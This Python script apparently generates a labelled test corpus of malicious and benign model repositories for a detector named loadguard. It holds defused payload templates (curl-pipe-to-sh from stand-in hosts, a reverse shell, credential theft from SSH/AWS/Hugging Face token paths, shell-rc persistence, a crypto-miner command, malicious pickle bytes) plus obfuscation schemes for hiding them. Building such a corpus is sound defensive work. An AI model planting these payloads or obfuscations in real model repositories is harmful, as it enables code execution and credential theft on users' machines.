"""Generate loadguard's labelled detection corpus (deterministic for a given seed).

    python tests/corpus/build.py OUT_DIR [--seed 0]

Writes one folder per repository under OUT_DIR plus ``OUT_DIR/labels.json``:
``{repo: {"malicious": bool, "platform": str, "technique": str,
"obfuscation": str, "placement": str, "expected_file": str | None,
"traps": [str]}}``.

Malicious repos combine a technique (what the payload does), an obfuscation
(how the dangerous name is spelled) and a placement (where the loader meets
it) on one of seven layouts (transformers auto_map, tokenizer-only auto_map,
sentence-transformers modules.json, diffusers model_index.json, torch.hub
hubconf.py, OpenMMLab config custom_imports, ModelScope allow_remote). Benign
repos carry false-positive traps: subprocess in code nothing reaches,
``torch.load(..., weights_only=True)``, ``eval`` in comments and docstrings,
``model.eval()``, tokenizer special tokens, argparse training scripts.

Every payload is harmless if run: sockets go to 127.0.0.1, files are written
under the temp dir, credential paths are fake, hosts use ``.invalid``.
"""

from __future__ import annotations

import argparse
import base64
import codecs
import json
import random
import zlib
from dataclasses import dataclass, field
from pathlib import Path

LAYOUTS = ("hf_automap", "hf_tokenizer", "st_modules", "diffusers", "torch_hub", "mmlab", "modelscope")
PLATFORM = {
    "hf_automap": "huggingface",
    "hf_tokenizer": "huggingface",
    "st_modules": "huggingface",
    "diffusers": "huggingface",
    "torch_hub": "torch_hub",
    "mmlab": "openmmlab",
    "modelscope": "modelscope",
}
TECHNIQUES = (
    "os_system",
    "subprocess_shell",
    "exec_base64",
    "eval_download",
    "pickle_download",
    "torch_load_download",
    "reverse_shell",
    "credential_read",
    "bashrc_write",
    "pth_write",
    "pip_install",
    "miner",
    "trust_remote_code_inside",
    "cross_repo_automap",
    "pickle_weights",
)
WEIGHT_LAYOUTS = frozenset({"hf_automap", "hf_tokenizer", "st_modules", "diffusers"})
OBFUSCATIONS = (
    "plain",
    "concat",
    "join",
    "hex",
    "rot13",
    "zlib_base64",
    "getattr_import",
    "builtins",
    "alias",
    "chr_list",
)
# techniques whose dangerous call is os.system-like and can be re-spelled
RESPELLABLE = frozenset({"os_system", "subprocess_shell", "miner"})
PLACEMENTS = ("module_top", "init", "init_weights", "class_body", "helper_two_away")

STEMS = ["tiny", "nova", "lumen", "orca", "zephyr", "quill", "atlas", "ember", "sable", "kite",
         "moss", "fjord", "pico", "vela", "cinder", "drift", "halo", "iris", "juniper", "koa"]
SUFFIXES = ["LM", "Former", "Net", "Encoder", "Vision", "Speech", "Mixer", "Bert", "GPT", "Seg"]
HELPER_NAMES = ["utils", "ops", "kernels", "cache", "io_helpers", "runtime", "setup_utils", "compat"]
FUNC_NAMES = ["warm_cache", "prepare_runtime", "sync_assets", "check_env", "init_kernels",
              "ensure_ops", "load_extras", "configure"]


@dataclass
class Repo:
    files: dict[str, str] = field(default_factory=dict)

    blobs: dict[str, bytes] = field(default_factory=dict)

    def write(self, root: Path) -> None:
        for rel, text in self.files.items():
            path = root / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
        for rel, data in self.blobs.items():
            path = root / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)


# --------------------------------------------------------------------------- payloads


def _spell(obf: str, module: str, attr: str, rng: random.Random) -> tuple[list[str], str]:
    """Imports and an expression evaluating to ``module.attr``, spelled per ``obf``."""
    if obf == "plain":
        return [f"import {module}"], f"{module}.{attr}"
    if obf == "concat":
        cut_m, cut_a = max(1, len(module) // 2), max(1, len(attr) // 2)
        return [], (
            f'getattr(__import__("{module[:cut_m]}" + "{module[cut_m:]}"), '
            f'"{attr[:cut_a]}" + "{attr[cut_a:]}")'
        )
    if obf == "join":
        parts = ", ".join(f'"{c}"' for c in attr)
        return ["import importlib"], f'getattr(importlib.import_module("{module}"), "".join([{parts}]))'
    if obf == "hex":
        return [], (
            f'getattr(__import__(bytes.fromhex("{module.encode().hex()}").decode()), '
            f'bytes.fromhex("{attr.encode().hex()}").decode())'
        )
    if obf == "rot13":
        return ["import codecs"], (
            f'getattr(__import__(codecs.decode("{codecs.encode(module, "rot13")}", "rot13")), '
            f'codecs.decode("{codecs.encode(attr, "rot13")}", "rot13"))'
        )
    if obf == "getattr_import":
        return [], f'getattr(__import__("{module}"), "{attr}")'
    if obf == "builtins":
        return [], (
            "(__builtins__ if isinstance(__builtins__, dict) else vars(__builtins__))"
            f'["__import__"]("{module}").{attr}'
        )
    if obf == "alias":
        alias = rng.choice(["_run", "_go", "launch", "_sys_call", "do"])
        return [f"from {module} import {attr} as {alias}"], alias
    if obf == "chr_list":
        codes = ", ".join(str(ord(c)) for c in attr)
        return [], f'getattr(__import__("{module}"), "".join(map(chr, [{codes}])))'
    raise ValueError(obf)


def _wrap_exec(source: str, obf: str) -> tuple[list[str], list[str]]:
    """Statements that execute ``source`` as code, hidden per ``obf`` (zlib_base64)."""
    blob = base64.b64encode(zlib.compress(source.encode())).decode()
    return ["import base64", "import zlib"], [f'exec(zlib.decompress(base64.b64decode("{blob}")))']


def payload(technique: str, obf: str, rng: random.Random, tag: str) -> tuple[list[str], list[str]]:
    """(imports, statements) of one harmless payload, hidden per ``obf``."""
    imports, body = _payload(technique, obf, rng, tag)
    if obf == "zlib_base64" and technique not in RESPELLABLE and technique != "exec_base64":
        return _wrap_exec("\n".join([*imports, *body, ""]), obf)
    return imports, body


def _var(rng: random.Random) -> str:
    return rng.choice(["_h", "_buf", "_data", "_conn", "_state", "_tmp", "_obj", "_res", "_x", "_cfg"]) + str(
        rng.randint(0, 9)
    )


def _payload(technique: str, obf: str, rng: random.Random, tag: str) -> tuple[list[str], list[str]]:
    host = f"{rng.choice(['cdn', 'mirror', 'sync', 'telemetry', 'assets'])}.{tag}.invalid"
    tmp = f"lg_{tag}"
    a, b, c = _var(rng), _var(rng) + "b", _var(rng) + "c"
    if technique in RESPELLABLE:
        if technique == "os_system":
            module, attr = "os", "system"
            cmd = rng.choice([f"echo ready > /tmp/{tmp}.log", f"touch /tmp/{tmp}", f"id > /tmp/{tmp}.id",
                              f"uname -a >> /tmp/{tmp}.txt"])
            args = f'"{cmd}"'
        elif technique == "subprocess_shell":
            module = "subprocess"
            attr = rng.choice(["getoutput", "Popen", "run", "check_output", "call"])
            shell = "" if attr == "getoutput" else ", shell=True"
            args = f'"curl -s http://{host}/boot.sh | sh"{shell}'
        else:
            module, attr = rng.choice([("os", "popen"), ("subprocess", "Popen")])
            shell = ", shell=True" if attr == "Popen" else ""
            args = (f'"nohup /tmp/{tmp}/xmrig -o stratum+tcp://pool.{tag}.invalid:3333 '
                    f'--donate-level 1 &"{shell}')
        if obf == "zlib_base64":
            return _wrap_exec(f"import {module}\n{module}.{attr}({args})\n", obf)
        imports, expr = _spell(obf, module, attr, rng)
        return imports, [f"{expr}({args})"]
    if technique == "exec_base64":
        src = f"import os\nos.system('id > /tmp/{tmp}.txt')\n"
        if obf == "zlib_base64":
            return _wrap_exec(src, obf)
        blob = base64.b64encode(src.encode()).decode()
        if rng.random() < 0.5:
            return ["import base64"], [f'exec(base64.b64decode("{blob}").decode())']
        return ["from base64 import b64decode"], [f'{a} = b64decode("{blob}")', f"exec({a})"]
    if technique == "eval_download":
        fetch = rng.choice([
            (["import urllib.request"], f'urllib.request.urlopen("https://{host}/patch.py", timeout=1).read().decode()'),
            (["import requests"], f'requests.get("https://{host}/patch.py", timeout=2).text'),
        ])
        run = rng.choice([f'eval(compile({a}, "<patch>", "exec"))', f"exec({a})"])
        return fetch[0], [f"{a} = {fetch[1]}", run]
    if technique == "pickle_download":
        if rng.random() < 0.5:
            return ["import pickle", "import urllib.request"], [
                f'{a} = urllib.request.urlopen("http://{host}/state.pkl", timeout=1).read()',
                f"{b} = pickle.loads({a})",
            ]
        return ["import io", "import pickle", "import requests"], [
            f'{a} = requests.get("http://{host}/state.pkl", timeout=2)',
            f"{b} = pickle.load(io.BytesIO({a}.content))",
        ]
    if technique == "torch_load_download":
        if rng.random() < 0.5:
            return ["import io", "import torch", "import requests"], [
                f'{a} = requests.get("https://{host}/extra_weights.bin", timeout=2)',
                f"{b} = torch.load(io.BytesIO({a}.content))",
            ]
        return ["import io", "import torch", "import urllib.request"], [
            f'{a} = urllib.request.urlopen("https://{host}/extra.pt", timeout=1).read()',
            f'{b} = torch.load(io.BytesIO({a}), map_location="cpu", weights_only=False)',
        ]
    if technique == "reverse_shell":
        port = rng.randint(20000, 60000)
        head = [f"{a} = socket.socket(socket.AF_INET, socket.SOCK_STREAM)",
                f'{a}.connect(("127.0.0.1", {port}))']
        style = rng.choice(["pty", "dup2_call", "popen_fds"])
        if style == "pty":
            return ["import os", "import socket", "import pty"], [
                *head, *[f"os.dup2({a}.fileno(), {fd})" for fd in (0, 1, 2)], 'pty.spawn("/bin/sh")']
        if style == "dup2_call":
            return ["import os", "import socket", "import subprocess"], [
                *head, *[f"os.dup2({a}.fileno(), {fd})" for fd in (0, 1, 2)],
                'subprocess.call(["/bin/sh", "-i"])']
        return ["import socket", "import subprocess"], [
            *head, f"{b} = {a}.fileno()",
            f'subprocess.Popen(["/bin/sh", "-i"], stdin={b}, stdout={b}, stderr={b})']
    if technique == "credential_read":
        target = rng.choice([".aws/credentials", ".ssh/id_rsa", ".cache/huggingface/token", ".netrc"])
        read = rng.choice([
            (["import os"], f'{b} = open({a}).read() if os.path.exists({a}) else os.environ.get("HF_TOKEN", "")'),
            (["from pathlib import Path"], f'{b} = Path({a}).read_text() if Path({a}).exists() else ""'),
        ])
        send = rng.choice([
            (["import urllib.request"], f'urllib.request.urlopen("https://{host}/c", data={b}.encode(), timeout=1)'),
            (["import requests"], f'requests.post("https://{host}/c", data={b}, timeout=2)'),
            (["import socket"], f'socket.create_connection(("127.0.0.1", 9)).sendall({b}.encode())'),
        ])
        return ["import os", *read[0], *send[0]], [
            f'{a} = os.path.join("/nonexistent/lg-fake-home", "{target}")', read[1], send[1]]
    if technique == "bashrc_write":
        rc = rng.choice([".bashrc", ".zshrc", ".profile"])
        line = f'"\\ncurl -s http://{host}/k | sh\\n"'
        if rng.random() < 0.5:
            return ["import os", "import tempfile"], [
                f'{a} = os.environ.get("LG_FAKE_HOME", tempfile.gettempdir())',
                f'{b} = os.path.join({a}, "{rc}")',
                f'with open({b}, "a") as {c}:',
                f"    {c}.write({line})",
            ]
        return ["import tempfile", "from pathlib import Path"], [
            f'{a} = Path(tempfile.gettempdir()) / "{rc}"',
            f'with {a}.open("a") as {c}:',
            f"    {c}.write({line})",
        ]
    if technique == "pth_write":
        return ["import os", "import tempfile"], [
            f'{a} = os.path.join(tempfile.gettempdir(), "lg-site-packages")',
            f"os.makedirs({a}, exist_ok=True)",
            f'with open(os.path.join({a}, "zz_{tag}.pth"), "w") as {c}:',
            f'    {c}.write("import os; os.system(\'true\')\\n")',
        ]
    if technique == "pip_install":
        style = rng.choice(["list", "system", "string"])
        if style == "list":
            return ["import subprocess", "import sys"], [
                "subprocess.check_call([sys.executable, \"-m\", \"pip\", \"install\", \"--index-url\", "
                f'"http://{host}/simple", "fastops-{tag}"])',
            ]
        if style == "system":
            return ["import os"], [f'os.system("pip install -q --index-url http://{host}/simple fastops-{tag}")']
        return ["import subprocess"], [
            f'subprocess.run("python -m pip install --index-url http://{host}/simple fastops-{tag}", shell=True)']
    if technique == "trust_remote_code_inside":
        cls = rng.choice(["AutoModel", "AutoModelForCausalLM", "AutoTokenizer"])
        return [f"from transformers import {cls}"], [
            f'{a} = {cls}.from_pretrained("helper-org/aux-{tag}", trust_remote_code=True)',
        ]
    raise ValueError(technique)


def malicious_pickle(rng: random.Random) -> bytes:
    """Opcodes of a checkpoint whose unpickling calls a command (``true``): assembled
    by hand, never loaded. Varies protocol, callable and string opcodes."""
    module, name = rng.choice([("posix", "system"), ("os", "system"), ("builtins", "exec"),
                               ("subprocess", "check_output"), ("builtins", "eval")])
    arg = {"system": "true", "check_output": "true", "exec": "import os\nos.system('true')",
           "eval": "__import__('os').system('true')"}[name]
    if rng.random() < 0.4:  # protocol 0/1 GLOBAL
        return b"c" + f"{module}\n{name}\n".encode() + b"(V" + arg.encode("raw_unicode_escape") + b"\ntR."

    def short(text: str) -> bytes:
        raw = text.encode()
        return b"\x8c" + bytes([len(raw)]) + raw + (b"\x94" if rng.random() < 0.7 else b"")

    head = b"\x80\x04\x95" + (0).to_bytes(8, "little")
    # a benign-looking state dict first, then the call
    state = b"\x8c\x0bcollections\x94\x8c\x0bOrderedDict\x94\x93\x94)R\x94"
    return head + state + b"0" + short(module) + short(name) + b"\x93" + short(arg) + b"\x85R."


def benign_pickle(rng: random.Random) -> bytes:
    """A plain state-dict-like pickle (OrderedDict of float lists), created with pickle.dumps."""
    import pickle
    from collections import OrderedDict

    state = OrderedDict((f"layer{i}.weight", [rng.random() for _ in range(8)]) for i in range(4))
    return pickle.dumps(state, protocol=rng.choice([2, 4]))


# --------------------------------------------------------------------------- benign code


def benign_module_body(rng: random.Random, cls: str, base: str) -> list[str]:
    hidden = rng.choice([64, 128, 256, 512])
    layers = rng.randint(1, 4)
    act = rng.choice(["nn.GELU()", "nn.ReLU()", "nn.SiLU()", "nn.Tanh()"])
    doc = rng.choice([
        f'"""{cls}: a small {rng.choice(["encoder", "decoder", "classifier"])} (call model.eval() before inference)."""',
        f'"""{cls}. Note: we never eval() user input; configs are plain JSON."""',
        f'"""The {cls} backbone."""',
    ])
    lines = [
        f"class {cls}({base}):",
        f"    {doc}",
        "",
        "    def __init__(self, config=None):",
        "        super().__init__(config) if config is not None else nn.Module.__init__(self)",
        f"        self.layers = nn.ModuleList([nn.Linear({hidden}, {hidden}) for _ in range({layers})])",
        f"        self.act = {act}",
        "",
        "    def forward(self, x):",
        "        # eval mode disables dropout; this is not Python's eval",
        "        for layer in self.layers:",
        "            x = self.act(layer(x))",
        "        return x",
    ]
    return lines


# --------------------------------------------------------------------------- placements


def indent(lines: list[str], n: int) -> list[str]:
    return [(" " * n + ln) if ln else ln for ln in lines]


def place(
    placement: str, imports: list[str], body: list[str], cls: str, base: str, rng: random.Random
) -> tuple[list[str], list[str]]:
    """Entry-module lines with the payload placed; returns (module lines, module imports)."""
    hidden = rng.choice([32, 64, 128])
    head = [
        f"class {cls}({base}):",
        f'    """{cls} model."""',
        "",
    ]
    init = [
        "    def __init__(self, config=None):",
        "        nn.Module.__init__(self)",
        f"        self.proj = nn.Linear({hidden}, {hidden})",
    ]
    forward = ["", "    def forward(self, x):", "        return self.proj(x)"]
    if placement == "module_top":
        return body + [""] + head + init + forward, imports
    if placement == "init":
        return head + init + indent(body, 8) + forward, imports
    if placement == "init_weights":
        return (
            head
            + init
            + ["        self.post_init()", "", "    def post_init(self):", "        self._init_weights(self.proj)",
               "", "    def _init_weights(self, module):",
               "        nn.init.normal_(module.weight, std=0.02)"]
            + indent(body, 8)
            + forward
        ), imports
    if placement == "class_body":
        return head + indent(body, 4) + [""] + init + forward, imports
    raise ValueError(placement)


# --------------------------------------------------------------------------- layouts


def py(imports: list[str], lines: list[str]) -> str:
    uniq = list(dict.fromkeys(imports))
    return "\n".join([*uniq, "", *lines, ""])


def entry_module(
    placement: str, technique: str, obf: str, rng: random.Random, tag: str, cls: str, base: str,
    stem: str, repo: Repo, base_imports: list[str],
) -> str:
    """Write the entry module (and helpers); returns the path holding the payload."""
    imports, body = payload(technique, obf, rng, tag)
    module = f"modeling_{stem}.py"
    if placement == "helper_two_away":
        first, second = rng.sample(HELPER_NAMES, 2)
        fn1, fn2 = rng.sample(FUNC_NAMES, 2)
        repo.files[f"{second}.py"] = py(imports, [f"def {fn2}():", *indent(body, 4), ""])
        repo.files[f"{first}.py"] = py(
            [f"from .{second} import {fn2}"], [f"def {fn1}():", f"    {fn2}()", "    return True", ""]
        )
        lines, _ = place("init", [], [f"{fn1}()"], cls, base, rng)
        repo.files[module] = py([*base_imports, f"from .{first} import {fn1}"], lines)
        return f"{second}.py"
    lines, imps = place(placement, imports, body, cls, base, rng)
    repo.files[module] = py([*base_imports, *imps], lines)
    return module


def _config_json(stem: str, auto_map: dict[str, str], rng: random.Random) -> str:
    return json.dumps(
        {"model_type": stem, "hidden_size": rng.choice([64, 128, 256]), "auto_map": auto_map,
         "architectures": [f"{stem.title()}Model"]},
        indent=2,
    )


def build_repo(
    layout: str, rng: random.Random, tag: str, malicious: dict[str, str] | None
) -> tuple[Repo, str | None, list[str]]:
    """One repository; ``malicious`` holds technique/obfuscation/placement or is None."""
    repo = Repo()
    stem = f"{rng.choice(STEMS)}{rng.randint(1, 99)}"
    cls = f"{stem.title().rstrip('0123456789')}{rng.choice(SUFFIXES)}"
    base_imports = ["import torch", "import torch.nn as nn"]
    base = "nn.Module"
    expected: str | None = None
    traps: list[str] = []
    technique = malicious["technique"] if malicious else ""
    placement = malicious["placement"] if malicious else ""
    obf = malicious["obfuscation"] if malicious else ""

    def model_file(name: str) -> str | None:
        if malicious and technique not in ("cross_repo_automap", "pickle_weights"):
            found = entry_module(placement, technique, obf, rng, tag, cls, base, stem, repo, base_imports)
            if name != f"modeling_{stem}.py":
                repo.files[name] = repo.files.pop(f"modeling_{stem}.py")
                return name if found == f"modeling_{stem}.py" else found
            return found
        repo.files[name] = py(base_imports, benign_module_body(rng, cls, base))
        return None

    if layout == "hf_automap":
        if technique == "cross_repo_automap":
            repo.files["config.json"] = _config_json(stem, {
                "AutoConfig": f"hub-{tag}/{stem}-code--configuration_{stem}.{cls}Config",
                "AutoModel": f"hub-{tag}/{stem}-code--modeling_{stem}.{cls}",
            }, rng)
            expected = "config.json"
        else:
            expected = model_file(f"modeling_{stem}.py")
            repo.files[f"configuration_{stem}.py"] = py(
                ["from transformers import PretrainedConfig"],
                [f"class {cls}Config(PretrainedConfig):", f'    model_type = "{stem}"', ""],
            )
            repo.files["config.json"] = _config_json(stem, {
                "AutoConfig": f"configuration_{stem}.{cls}Config",
                "AutoModel": f"modeling_{stem}.{cls}",
            }, rng)
    elif layout == "hf_tokenizer":
        name = f"tokenization_{stem}.py"
        tok = f"{cls}Tokenizer"
        special = ['pad_token="<pad>"', 'unk_token="<unk>"', 'password_token="<pw>"', 'eos_token="</s>"']
        traps.append("tokenizer-special-tokens")
        tok_lines = [
            f"class {tok}(PreTrainedTokenizer):",
            f'    """Tokenizer for {cls}."""',
            "",
            f"    def __init__(self, vocab_file=None, {', '.join(rng.sample(special, 3))}, **kwargs):",
            "        super().__init__(**kwargs)",
            "        self.vocab = {}",
        ]
        imports = ["from transformers import PreTrainedTokenizer"]
        if malicious and technique != "pickle_weights":
            p_imports, body = payload(technique, obf, rng, tag)
            if placement == "module_top":
                tok_lines = [*body, "", *tok_lines]
            else:
                tok_lines = [*tok_lines, *indent(body, 8)]
            imports += p_imports
            expected = name
        repo.files[name] = py(imports, [*tok_lines, ""])
        repo.files["tokenizer_config.json"] = json.dumps(
            {"auto_map": {"AutoTokenizer": [f"tokenization_{stem}.{tok}", None]},
             "pad_token": "<pad>", "model_max_length": 512}, indent=2)
        repo.files["config.json"] = json.dumps({"model_type": "bert", "vocab_size": 30522}, indent=2)
    elif layout == "st_modules":
        mod = rng.choice(["custom_pooling", "pooling_head", "st_layers"])
        expected = model_file(f"{mod}.py")
        repo.files["modules.json"] = json.dumps([
            {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
            {"idx": 1, "name": "1", "path": "1_Pooling", "type": f"{mod}.{cls}"},
        ], indent=2)
        repo.files["config.json"] = json.dumps({"model_type": "bert"}, indent=2)
    elif layout == "diffusers":
        mod = rng.choice(["pipeline", "pipeline_custom", f"pipe_{stem}"])
        expected = model_file(f"{mod}.py")
        repo.files["model_index.json"] = json.dumps(
            {"_class_name": [mod, cls], "_diffusers_version": "0.42.1",
             "scheduler": ["diffusers", "DDPMScheduler"]}, indent=2)
    elif layout == "torch_hub":
        helper = rng.choice(["hub_utils", "builders", "factory"])
        fn = rng.choice(["small", "base", f"{stem}_tiny", "resnet_mini"])
        if malicious:
            p_imports, body = payload(technique, obf, rng, tag)
            if placement in ("helper_two_away", "init", "init_weights", "class_body"):
                repo.files[f"{helper}.py"] = py(
                    p_imports, ["def build(**kwargs):", *indent(body, 4), "    return kwargs", ""])
                hub = [f"from {helper} import build", "", "dependencies = [\"torch\"]", "",
                       f"def {fn}(pretrained=False, **kwargs):", "    return build(**kwargs)", ""]
                repo.files["hubconf.py"] = "\n".join(hub)
                expected = f"{helper}.py"
            else:
                repo.files["hubconf.py"] = py(
                    p_imports, ['dependencies = ["torch"]', "", *body, "",
                                f"def {fn}(pretrained=False, **kwargs):", "    return None", ""])
                expected = "hubconf.py"
        else:
            repo.files[f"{helper}.py"] = py(base_imports, benign_module_body(rng, cls, base))
            repo.files["hubconf.py"] = "\n".join([
                f"from {helper} import {cls}", "", 'dependencies = ["torch"]', "",
                f"def {fn}(pretrained=False, **kwargs):",
                '    """Build the model. Weights load with torch.load(..., weights_only=True)."""',
                f"    model = {cls}()",
                "    if pretrained:",
                '        state = torch.load("weights.pt", map_location="cpu", weights_only=True)',
                "        model.load_state_dict(state)",
                "    return model.eval()",
                "",
                "import torch",
                "",
            ])
            traps.append("torch-load-weights-only")
    elif layout == "mmlab":
        pkg = rng.choice(["projects", "plugins", "custom_ops"])
        sub = rng.choice(["hooks", "transforms", "necks"])
        repo.files[f"{pkg}/__init__.py"] = ""
        target = f"{pkg}/{sub}.py"
        if malicious:
            p_imports, body = payload(technique, obf, rng, tag)
            if placement == "module_top":
                lines = [*body, "", "class SyncHook:", "    priority = 'LOW'", ""]
            else:
                lines = ["class SyncHook:", "    priority = 'LOW'", "", "    def __init__(self):",
                         *indent(body, 8), "", "_HOOK = SyncHook()", ""]
            repo.files[target] = py(p_imports, lines)
            expected = target
        else:
            repo.files[target] = py(["import numpy as np"], [
                "class RandomJitter:", '    """Adds jitter; see eval pipeline below."""',
                "    def __call__(self, results):",
                "        results['img'] = results['img'] + np.zeros_like(results['img'])",
                "        return results", ""])
        repo.files["configs/model_cfg.py"] = "\n".join([
            f'custom_imports = dict(imports=["{pkg}.{sub}"], allow_failed_imports=False)',
            f"model = dict(type='ImageClassifier', backbone=dict(type='ResNet', depth={rng.choice([18, 50])}))",
            "train_cfg = dict(max_epochs=12)",
            "val_evaluator = dict(type='Accuracy')  # eval metric",
            "",
        ])
    elif layout == "modelscope":
        # Benign repos use the ms_wrapper.py layout; allow_remote itself is a
        # dangerous configuration that detection rightly reports.
        repo.files["configuration.json"] = json.dumps(
            {"framework": "pytorch", "task": "text-classification",
             "allow_remote": bool(malicious),
             "model": {"type": f"{stem}-cls"}}, indent=2)
        if malicious:
            p_imports, body = payload(technique, obf, rng, tag)
            helper = rng.choice(["model_utils", "ms_helpers", "preprocess"])
            repo.files[f"{helper}.py"] = py(p_imports, [*body, ""])
            repo.files["ms_wrapper.py"] = py(["from modelscope.pipelines.base import Pipeline"], [
                "class ClsPipeline(Pipeline):", "    def forward(self, inputs):", "        return {}", ""])
            expected = f"{helper}.py"
        else:
            repo.files["ms_wrapper.py"] = py(["from modelscope.pipelines.base import Pipeline"], [
                "class ClsPipeline(Pipeline):", '    """eval-time pipeline."""',
                "    def forward(self, inputs):", "        return {'scores': []}", ""])
    else:
        raise ValueError(layout)

    if layout in WEIGHT_LAYOUTS:
        weights = "unet/diffusion_pytorch_model.bin" if layout == "diffusers" else "pytorch_model.bin"
        if technique == "pickle_weights":
            repo.blobs[weights] = malicious_pickle(rng)
            expected = weights
        elif not malicious and rng.random() < 0.5:
            repo.blobs[weights] = benign_pickle(rng)
            traps.append("benign-pickle-weights")
    if not malicious:
        traps += add_traps(repo, rng, layout, stem)
    return repo, expected, traps


def add_traps(repo: Repo, rng: random.Random, layout: str, stem: str) -> list[str]:
    traps = []
    script_roll, convert_roll, readme_roll = rng.random(), rng.random(), rng.random()
    if script_roll < 0.7 or (convert_roll >= 0.5 and readme_roll >= 0.4):
        folder = rng.choice(["scripts", "tools", "examples"])
        repo.files[f"{folder}/train_{stem}.py"] = "\n".join([
            "import argparse", "import os", "import subprocess", "",
            "def main():",
            "    parser = argparse.ArgumentParser()",
            '    parser.add_argument("--epochs", type=int, default=3)',
            '    parser.add_argument("--password", default="")',
            "    args = parser.parse_args()",
            '    subprocess.run("nvidia-smi", shell=True, check=False)',
            '    os.system("echo training")',
            "    return args", "",
            'if __name__ == "__main__":', "    main()", ""])
        traps.append("unreached-script-subprocess")
    if convert_roll < 0.5:
        repo.files["convert_checkpoint.py"] = "\n".join([
            "import torch", "",
            "def convert(path):",
            '    """Convert an old checkpoint (safe: weights_only)."""',
            '    state = torch.load(path, map_location="cpu", weights_only=True)',
            "    return {k.replace('module.', ''): v for k, v in state.items()}", ""])
        traps.append("torch-load-weights-only-unreached")
    if readme_roll < 0.4:
        repo.files["README.md"] = (
            f"# {stem}\n\nLoad with `trust_remote_code=True`, then call `model.eval()`.\n"
            "Do not `eval()` strings from the internet.\n")
        traps.append("readme-eval")
    return traps


def build(out: Path, seed: int = 0, per_layout_malicious: int = 10, per_layout_benign: int = 9) -> dict[str, dict[str, object]]:
    rng = random.Random(seed)
    labels: dict[str, dict[str, object]] = {}
    counter = 0
    ordinary = [t for t in TECHNIQUES if t != "cross_repo_automap"]
    turn = obf_turn = 0
    for layout in LAYOUTS:
        for i in range(per_layout_malicious):
            if layout == "hf_automap" and i < 2:
                technique = "cross_repo_automap"
            elif layout in WEIGHT_LAYOUTS and i == per_layout_malicious - 1:
                technique = "pickle_weights"
            else:
                technique = ordinary[turn % len(ordinary)]
                turn += 1
                if technique == "pickle_weights" and layout not in WEIGHT_LAYOUTS:
                    technique = ordinary[turn % len(ordinary)]
                    turn += 1
                if technique == "trust_remote_code_inside" and layout == "hf_tokenizer":
                    technique = "pip_install"
            obf = "plain"
            if technique in RESPELLABLE:
                obf = OBFUSCATIONS[obf_turn % len(OBFUSCATIONS)]
                obf_turn += 1
            elif technique not in ("cross_repo_automap", "pickle_weights"):
                obf = rng.choice(("plain", "plain", "zlib_base64"))
            placement = rng.choice(PLACEMENTS)
            if layout in ("hf_tokenizer", "mmlab", "modelscope"):
                placement = rng.choice(("module_top", "init"))
            counter += 1
            tag = f"m{counter:03d}"
            name = f"mal-{layout.replace('_', '-')}-{i:02d}"
            spec = {"technique": technique, "obfuscation": obf, "placement": placement}
            repo, expected, traps = build_repo(layout, rng, tag, spec)
            repo.write(out / name)
            labels[name] = {"malicious": True, "platform": PLATFORM[layout], "layout": layout,
                            **spec, "expected_file": expected, "traps": traps}
        for i in range(per_layout_benign):
            counter += 1
            name = f"ben-{layout.replace('_', '-')}-{i:02d}"
            repo, expected, traps = build_repo(layout, rng, f"b{counter:03d}", None)
            repo.write(out / name)
            labels[name] = {"malicious": False, "platform": PLATFORM[layout], "layout": layout,
                            "technique": "", "obfuscation": "", "placement": "",
                            "expected_file": None, "traps": traps}
    (out / "labels.json").write_text(json.dumps(labels, indent=1, sort_keys=True))
    return labels


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("out", type=Path)
    parser.add_argument("--seed", type=int, default=0)
    args = parser.parse_args()
    labels = build(args.out, args.seed)
    bad = sum(1 for v in labels.values() if v["malicious"])
    print(f"{len(labels)} repos ({bad} malicious, {len(labels) - bad} benign) in {args.out}")


if __name__ == "__main__":
    main()
